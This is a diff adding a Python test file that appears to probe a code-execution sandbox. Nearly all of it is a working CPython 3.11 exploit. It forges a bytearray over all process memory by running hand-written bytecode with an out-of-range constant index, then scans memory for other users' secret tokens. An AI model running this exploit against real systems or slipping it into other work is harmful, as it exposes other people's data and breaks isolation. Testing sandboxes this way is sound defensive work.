@@ -1,0 +1,71 @@
+# attack: all of its own memory, freed or not, through an object made of bytes; sources and inputs of others might still lie there
+# verdict: ok|crashed
+# values: [[], [], [], []]
+# limits: loop_steps=10000000 input_cpu_s=10 cpu_s=30 wall_s=40 memory_mb=256
+# seconds: 40
+import gc
+import os
+import re
+import struct
+import sys
+
+SECRET = re.compile(b"peirce-secret-[a-z]+-[0-9a-f]{16}")
+PAGE = 4096
+keep = []
+
+
+def window():
+    """A bytearray over all of memory: its head is made by hand, within another object's bytes, and
+    loaded by an index far beyond a tuple of constants (CPython 3.11)."""
+    head = bytes.__basicsize__ - 1
+    forged = struct.pack("<QQqqQQqQ", 2**30, id(bytearray), 2**62, 2**62, 0, 0, 0, 0)
+    pointer = struct.pack("<Q", id(forged) + head)
+    constants = tuple([None])
+    keep.extend([forged, constants])
+
+    def g():
+        return None
+
+    for n in range(20000):
+        holder = pointer * (1 + n % 60)
+        keep.append(holder)
+        offset = id(holder) + head - (id(constants) + tuple.__basicsize__)
+        if offset > 0 and offset % 8 == 0 and offset // 8 < 2**31:
+            index = (offset // 8).to_bytes(4, "big")
+            raw = bytes([151, 0, 144, index[0], 144, index[1], 144, index[2], 100, index[3], 83, 0])
+            g.__code__ = g.__code__.replace(co_code=raw, co_consts=constants, co_stacksize=4)
+            return g()
+
+
+def mapped(memory, page, file):
+    """Whether there is such a page: the kernel says so where a read would end the process."""
+    try:
+        return os.pwrite(file, memoryview(memory)[page * PAGE : page * PAGE + 1], 0) == 1
+    except OSError:
+        return False
+
+
+def f(x):
+    if x != [3, 1, 2] or sys.version_info[:2] != (3, 11):
+        return []
+    memory = window()
+    gc.unfreeze()
+    pages = set()
+    for one in gc.get_objects():
+        pages.add(id(one) // PAGE)
+        pages.update(id(inner) // PAGE for inner in gc.get_referents(one))
+    try:
+        file = os.open("peirce-hostile-probe", os.O_RDWR | os.O_CREAT, 0o600)
+        for step in (1, -1):
+            for page in sorted(pages):
+                while page + step not in pages and mapped(memory, page + step, file):
+                    page += step
+                    pages.add(page)
+    except OSError:
+        pass
+    found, last = set(), b""
+    for page in sorted(pages):
+        piece = bytes(memory[page * PAGE : (page + 1) * PAGE])
+        found.update(SECRET.findall(last[-64:] + piece))
+        last = piece
+    return sorted(one.decode() for one in found)
